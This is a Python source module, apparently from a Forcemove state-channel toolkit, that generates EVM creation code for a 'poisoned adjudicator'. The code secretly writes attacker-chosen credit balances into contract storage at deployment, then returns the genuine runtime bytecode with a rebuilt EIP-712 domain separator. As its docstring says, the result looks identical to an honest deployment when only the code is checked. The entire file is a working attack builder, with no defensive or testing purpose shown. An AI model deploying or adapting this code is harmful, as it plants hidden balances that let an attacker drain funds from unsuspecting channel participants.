"""A poisoned adjudicator in bytes: creation code that first stores a credit, and then returns the genuine runtime code.

Nothing in the code that is then on the chain tells it from an honest deployment.
"""

from __future__ import annotations

from forcemove import Chain, Domain, keccak256, word
from forcemove.contracts import artifact

__all__ = ["credit_place", "poisoned_creation_code"]

_DOMAIN_TYPE = b"EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"
_ADDRESS, _CODECOPY, _DUP1, _KECCAK256, _MSTORE, _RETURN, _SSTORE = 0x30, 0x39, 0x80, 0x20, 0x52, 0xF3, 0x55


def credit_place(slot: int, account: bytes, asset: bytes) -> bytes:
    """Where a credit lies in the storage, if the mapping of credits has this slot."""
    of_account = keccak256(bytes(12) + account + word(slot))
    return keccak256(bytes(12) + asset + of_account)


def poisoned_creation_code(chain: Chain, genuine: bytes, storage: dict[bytes, int]) -> bytes:
    """Fills the storage, and returns what the adjudicator at `genuine` would be at the new contract's own address:
    with the chain id, and with the EIP-712 domain of whatever address it is created at."""
    runtime, places = _runtime_without_domain(chain, genuine)
    fields = _domain_fields(chain.chain_id)
    program = _program(len(runtime), places, storage, start=0)
    program = _program(len(runtime), places, storage, start=len(program))
    return program + fields + runtime


def _runtime_without_domain(chain: Chain, genuine: bytes) -> tuple[bytes, list[int]]:
    """The runtime code with zeros in place of the domain separator, and where that is."""
    code = bytearray(chain.code(genuine))
    separator = Domain(chain.chain_id, genuine).separator
    places = [
        start for start, _ in artifact("Adjudicator").immutable_references if code[start : start + 32] == separator
    ]
    for start in places:
        code[start : start + 32] = bytes(32)
    return bytes(code), places


def _domain_fields(chain_id: int) -> bytes:
    return b"".join((keccak256(_DOMAIN_TYPE), keccak256(b"Forcemove"), keccak256(b"2"), word(chain_id), bytes(32)))


def _program(size: int, places: list[int], storage: dict[bytes, int], *, start: int) -> bytes:
    """`start`: where the fields of the domain, and behind them the runtime code, are in the creation code."""
    beside = size + -size % 32  # behind the runtime code in memory
    filled = b"".join(_push(word(value)) + _push(place) + bytes((_SSTORE,)) for place, value in storage.items())
    copied = _push_number(size) + _push_number(start + 160) + _push_number(0) + bytes((_CODECOPY,))
    copied += _push_number(160) + _push_number(start) + _push_number(beside) + bytes((_CODECOPY, _ADDRESS))
    copied += _push_number(beside + 128) + bytes((_MSTORE,))
    separated = _push_number(160) + _push_number(beside) + bytes((_KECCAK256,))
    separated += b"".join(bytes((_DUP1,)) + _push_number(place) + bytes((_MSTORE,)) for place in places)
    return filled + copied + separated + _push_number(size) + _push_number(0) + bytes((_RETURN,))


def _push(data: bytes) -> bytes:
    return bytes((0x5F + len(data),)) + data


def _push_number(number: int) -> bytes:
    return _push(number.to_bytes(2, "big"))
